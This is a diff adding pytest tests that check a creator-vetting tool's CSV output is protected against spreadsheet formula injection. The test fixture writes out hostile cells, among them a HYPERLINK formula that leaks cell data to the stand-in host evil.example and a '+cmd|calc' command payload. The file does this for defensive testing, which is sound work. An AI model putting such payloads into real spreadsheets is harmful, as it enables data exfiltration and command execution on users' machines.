@@ -18,6 +18,7 @@ from rich.console import Console
 
 from bot.cli import main
 from bot.cli import vet as vet_cli
+from bot.cli.csv_cells import FORMULA_STARTS, safe_cell
 from bot.sources.snapshot import SAMPLES_DIR
 from bot.vetting.audience.model import load_model, shipped_model_path
 from bot.vetting.report import VetReport
@@ -222,6 +223,44 @@ def test_csv_vets_every_row_and_explains_the_bad_ones(
     assert rows[3]["error"] == "Unknown platform `facebook`: use instagram, tiktok or youtube."
     # a cell is a creator, never a request for help: a creator called "help" is looked up like any other
     assert rows[4]["error"].startswith("We could not find @help on instagram.")
+
+
+def test_csv_results_never_carry_a_formula_a_spreadsheet_would_run(
+    database_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    hostile = [
+        "handle,platform,ask",
+        '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",instagram,100',
+        "+cmd|calc,instagram,",
+        "-2+3,instagram,",
+        "@cmd,=1+2,",
+    ]
+    (tmp_path / "creators.csv").write_text("\n".join(hostile) + "\n")
+
+    vet(capsys, "--csv", "creators.csv", "--now", NOW_ARG)
+
+    with (tmp_path / "creators_vetted.csv").open(newline="") as results:
+        rows = list(csv.DictReader(results))
+    assert [row["handle"] for row in rows] == [
+        '\'=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "'+cmd|calc",
+        "'-2+3",
+        "'@cmd",
+    ]
+    assert rows[3]["platform"] == "'=1+2"
+    cells = [cell for row in rows for cell in row.values()]
+    assert all(not cell.startswith(FORMULA_STARTS) for cell in cells)  # the error text included
+
+
+def test_a_negative_number_stays_a_number_in_a_csv():
+    assert [safe_cell(v) for v in ("-12.50", -3, "-", "-1e9", "\tx", "x-y")] == [
+        "-12.50",
+        -3,
+        "'-",
+        "'-1e9",
+        "'\tx",
+        "x-y",
+    ]
 
 
 def test_csv_reads_a_plain_list_of_handles_and_links(
